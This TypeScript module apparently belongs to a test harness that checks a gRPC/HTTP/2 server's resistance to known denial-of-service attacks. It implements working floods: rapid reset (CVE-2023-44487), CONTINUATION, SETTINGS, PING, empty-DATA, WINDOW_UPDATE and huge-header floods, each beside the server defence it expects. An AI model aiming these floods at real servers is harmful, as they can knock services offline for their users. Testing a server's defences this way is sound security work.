import { allEnd, mebibyte, openSockets, tally, type Attack, type Outcome, type Scene } from "../attack.ts";
import type { HostileSocket } from "../hostile-socket.ts";
import { callHeaders, flags, frame, greeting, headerBlock } from "../http2-wire.ts";

// A flood comes in pieces, so that the attacker himself stays alive.
const piece = 500;
/** Few connections: one of them is enough for any of these, on a server that does not defend itself. */
const floodConnections = 4;

/** Sends so many frames on each of a few connections, made by number, deaf or not. */
async function flood(
  { target, size }: Scene,
  make: (index: number) => Uint8Array,
  deaf = false,
): Promise<readonly HostileSocket[]> {
  const sockets = await openSockets({ port: target.port }, floodConnections);
  for (const socket of sockets) {
    socket.send(greeting);
    if (deaf) socket.deafen();
  }
  for (let from = 0; from < size.frames; from += piece) {
    const bytes = Buffer.concat(Array.from({ length: piece }, (_, index) => make(from + index)));
    for (const socket of sockets) {
      // Whoever is not read any more has nothing to gain by a longer queue of his own.
      if (socket.fate === "open" && socket.stuckBytes < mebibyte) socket.send(bytes);
    }
    await new Promise((resolve) => setImmediate(resolve));
  }
  return sockets;
}

/** They leave by themselves; whether the server has ended them before does not matter, only how the others fare. */
async function borne(sockets: readonly HostileSocket[]): Promise<Outcome> {
  for (const socket of sockets) socket.listen();
  await new Promise((resolve) => setTimeout(resolve, 200));
  const fates = tally(sockets.map(({ fate }) => fate));
  for (const socket of sockets) socket.leave();
  return { connections: sockets.length, fates, violations: [] };
}

const streamId = (index: number): number => 2 * index + 1;
const block = ({ token }: Scene): Buffer => headerBlock(callHeaders("/tape.v1.Tape/GetRun", token));
const increment = Buffer.from([0, 0, 0, 1]);
const growth = 256 * mebibyte;

/** Frames by the thousand: what HTTP/2 servers have been brought down with. */
export const floodAttacks: readonly Attack[] = [
  {
    name: "rapid-reset",
    what: "calls that are reset as soon as they are made (CVE-2023-44487)",
    defence: "GOAWAY and closed: Node allows 1,000 resets at once and 33 a second on a connection",
    mayGrowBy: growth,
    run: async (scene) => {
      const headers = block(scene);
      const cancel = Buffer.from([0, 0, 0, 8]);
      const sockets = await flood(scene, (index) =>
        Buffer.concat([
          frame("headers", flags.endHeaders, streamId(index), headers),
          frame("rstStream", 0, streamId(index), cancel),
        ]),
      );
      return allEnd(scene, sockets);
    },
  },
  {
    name: "continuation-flood",
    what: "headers that go on and on in CONTINUATION frames (CVE-2024-27983)",
    defence: "GOAWAY and closed: nghttp2 takes a few frames of one header block",
    mayGrowBy: growth,
    run: async (scene) => {
      const headers = block(scene);
      const more = headerBlock({ "x-more": "y".repeat(100) });
      const sockets = await flood(scene, (index) =>
        index === 0 ? frame("headers", 0, 1, headers) : frame("continuation", 0, 1, more),
      );
      return allEnd(scene, sockets);
    },
  },
  {
    name: "settings-flood",
    what: "SETTINGS without end, their acknowledgements not read (CVE-2019-9515)",
    defence: "closed: nghttp2 keeps 1,000 acknowledgements that wait",
    mayGrowBy: growth,
    run: async (scene) => borne(await flood(scene, () => frame("settings", 0, 0), true)),
  },
  {
    name: "ping-flood",
    what: "PING without end, the answers not read (CVE-2019-9512)",
    defence: "closed: nghttp2 keeps 1,000 answers that wait",
    mayGrowBy: growth,
    run: async (scene) => borne(await flood(scene, () => frame("ping", 0, 0, Buffer.alloc(8)), true)),
  },
  {
    name: "empty-frames",
    what: "empty DATA frames on a call that never ends (CVE-2019-9518)",
    defence: "the stream is reset after TAPE_REQUEST_TIMEOUT_MS, and its connection closed after TAPE_IDLE_TIMEOUT_MS",
    mayGrowBy: growth,
    run: async (scene) => {
      const headers = block(scene);
      const sockets = await flood(scene, (index) =>
        index === 0 ? frame("headers", flags.endHeaders, 1, headers) : frame("data", 0, 1),
      );
      return allEnd(scene, sockets);
    },
  },
  {
    name: "window-flood",
    what: "WINDOW_UPDATE and PRIORITY without end (CVE-2019-9513)",
    defence: "borne: each costs the server microseconds, and no memory",
    mayGrowBy: growth,
    run: async (scene) =>
      borne(
        await flood(scene, (index) =>
          index % 2 === 0 ? frame("windowUpdate", 0, 0, increment) : frame("priority", 0, 1, Buffer.alloc(5)),
        ),
      ),
  },
  {
    name: "huge-headers",
    what: "calls with 15 KiB of headers in each frame, more than 32 KiB in all",
    defence: "the stream is reset, or the connection closed, beyond 32 KiB or 128 headers",
    mayGrowBy: growth,
    run: async (scene) => {
      const first = block(scene);
      const more = headerBlock({ "x-more": "y".repeat(15 * 1024) });
      const end = (index: number): number => (index % 4 === 3 ? flags.endHeaders : 0);
      const sockets = await flood(
        { ...scene, size: { ...scene.size, frames: Math.min(scene.size.frames, 1000) } },
        (index) =>
          index % 4 === 0
            ? frame("headers", flags.endStream, streamId(index), first)
            : frame("continuation", end(index), streamId(index - (index % 4)), more),
      );
      return allEnd(scene, sockets);
    },
  },
];
